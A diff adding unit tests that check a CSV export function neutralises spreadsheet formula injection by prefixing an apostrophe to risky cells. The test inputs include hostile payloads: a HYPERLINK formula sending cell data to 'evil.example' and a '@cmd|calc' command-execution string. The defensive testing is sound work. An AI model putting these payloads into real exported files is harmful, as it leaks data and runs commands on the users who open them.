@@ -14,6 +14,39 @@ describe('csvField (RFC 4180)', () => {
   });
 });
 
+describe('CSV injection (OWASP): no cell runs as a formula in a spreadsheet', () => {
+  it('prefixes an apostrophe to cells that begin with = + - @ tab or CR', () => {
+    expect(csvField('=HYPERLINK("http://evil.example/?"&A2,"source")')).toBe(
+      '"\'=HYPERLINK(""http://evil.example/?""&A2,""source"")"',
+    );
+    expect(csvField('+1+cmd')).toBe("'+1+cmd");
+    expect(csvField('-2+3')).toBe("'-2+3");
+    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(csvField('\tx')).toBe("'\tx");
+  });
+
+  it('leaves plain numbers, negative ones too, and text that merely contains = alone', () => {
+    expect(csvField('-12.5')).toBe('-12.5');
+    expect(csvField('+3')).toBe('+3');
+    expect(csvField('36.73241')).toBe('36.73241');
+    expect(csvField('a = b')).toBe('a = b');
+  });
+
+  it('neutralises a hostile quote in a whole events CSV', () => {
+    const [first] = EVENTS;
+    const hostile = {
+      ...first!,
+      note: '=HYPERLINK("http://evil.example/?"&A2,"source")',
+      citations: [{ source: first!.citations[0]!.source, quote: '@cmd|calc' }],
+    };
+    const rows = parseCSV(eventsToCSV([hostile], { places: PLACES_BY_ID, factions: FACTIONS }));
+    const cells = rows[1]!;
+    expect(cells.some((c) => /^[=+@]/.test(c))).toBe(false);
+    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A2,"source")');
+    expect(cells).toContain("'@cmd|calc");
+  });
+});
+
 describe('eventsToCSV', () => {
   it('writes a header and one CRLF-terminated row per event', () => {
     const lines = csv.split('\r\n');
